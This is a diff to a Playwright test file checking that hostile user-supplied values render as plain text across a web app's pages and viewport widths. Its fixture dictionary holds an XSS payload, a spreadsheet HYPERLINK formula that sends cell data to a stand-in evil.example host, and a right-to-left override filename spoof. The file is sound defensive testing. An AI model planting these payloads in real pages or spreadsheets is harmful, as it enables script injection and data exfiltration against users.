@@ -13,7 +13,7 @@ from test_growth_looks import overflow_of
 from written import log_of
 
 HOSTILE = {
-    "markup": """<script>window.owned = 1</script><img src=x onerror="window.owned = 1">"'></title></option></select>""",
+    "markup": """<script>window.owned = 1</script><img src=x onerror="window.owned = 1">"'></title></select>""",
     "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
     "reversed": "\u202egnp.exe\u2066 \u05d0\u05d1\u05d2",
     "long": "long" * 2560,
@@ -51,7 +51,8 @@ def look(page: Page) -> None:
         const found = []
         while (texts.nextNode()) {
             const parent = texts.currentNode.parentElement
-            if (/[\\u202e\\u2066]/.test(texts.currentNode.data) && !parent.closest('bdi, option')) found.push(parent.outerHTML)
+            const turns = /[\\u202e\\u2066]/.test(texts.currentNode.data)
+            if (turns && !parent.closest('bdi, option')) found.push(parent.outerHTML)
         }
         return found
     }""")
@@ -59,15 +60,14 @@ def look(page: Page) -> None:
     assert overflow_of(page) == []
 
 
-@pytest.mark.parametrize("width", [390, 1280])
-def test_hostile_values_are_text_on_every_page_and_filter(
-    width: int, window: Browser, hostile: Room, people: Colleagues
-) -> None:
-    page = people.colleague(hostile, window, viewport={"width": width, "height": 900})
+def test_hostile_values_are_text_on_every_page_and_filter(window: Browser, hostile: Room, people: Colleagues) -> None:
+    page = people.colleague(hostile, window)
     for place in PLACES:
         page.goto(place)
         page.wait_for_load_state()
-        look(page)
+        for width in (390, 1280):
+            page.set_viewport_size({"width": width, "height": 900})
+            look(page)
     for name, value in HOSTILE.items():
         page.goto(f"/growth/journeys/{name}")
         assert page.locator("#from + dl bdi").first.text_content() == value
